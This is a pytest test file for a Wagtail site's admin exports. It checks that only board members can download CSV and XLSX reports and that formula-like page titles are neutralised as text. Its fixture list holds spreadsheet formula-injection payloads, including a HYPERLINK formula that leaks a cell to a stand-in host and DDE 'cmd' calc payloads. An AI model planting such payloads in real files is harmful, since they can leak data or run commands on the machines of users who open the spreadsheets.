"""Exports of the admin: the board only, on every path, and no cell runs as a formula
(issue 17, findings 3 and 7)."""

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from home.models import ArticlePage

pytestmark = pytest.mark.django_db

# Wagtail's reports, each with ?export=csv and ?export=xlsx.
REPORTS = [
    "/admin/reports/site-history/",
    "/admin/reports/aging-pages/",
    "/admin/reports/locked/",
    "/admin/reports/workflow/",
    "/admin/reports/workflow_tasks/",
]
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_pages(section, board_member) -> list[ArticlePage]:
    pages = []
    for n, title in enumerate(HOSTILE_TITLES):
        page = section.add_child(instance=ArticlePage(title=title, slug=f"doc-{n}"))
        page.save_revision(user=board_member).publish(user=board_member)
        pages.append(page)
    return pages


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8").lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("role", ["contributor", "section_editor", "site_admin"])
@pytest.mark.parametrize("url", REPORTS)
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_report_export_is_refused_below_the_board(client, role, url, export, request, section):
    client.force_login(request.getfixturevalue(role))

    response = client.get(url, {"export": export})

    assert response.status_code == 403
    assert "attachment" not in response.get("Content-Disposition", "")


def test_board_exports_the_site_history(client, board_member, hostile_pages):
    client.force_login(board_member)

    response = client.get("/admin/reports/site-history/", {"export": "csv"})

    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    cells = csv_cells(b"".join(response.streaming_content))
    for title in HOSTILE_TITLES:
        assert "'" + title in cells, title  # text, with the apostrophe Excel hides
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_board_xlsx_export_keeps_would_be_formulas_as_text(client, board_member, hostile_pages):
    client.force_login(board_member)

    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    values = {cell.value for cell in cells}
    # (openpyxl reads the carriage return back as another line break)
    assert {title for title in HOSTILE_TITLES if "\r" not in title} <= values
    assert all(cell.data_type != "f" for cell in cells)


def test_audit_log_csv_neutralises_formula_cells(client, board_member, hostile_pages):
    client.force_login(board_member)
    today = timezone.localdate().isoformat()

    response = client.get("/admin/audit-log/export/", {"date_from": today, "date_to": today})

    assert response.status_code == 200
    cells = csv_cells(response.content)
    for title in HOSTILE_TITLES:
        assert "'" + title in cells, title
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert any(cell == "wagtail.publish" for cell in cells)
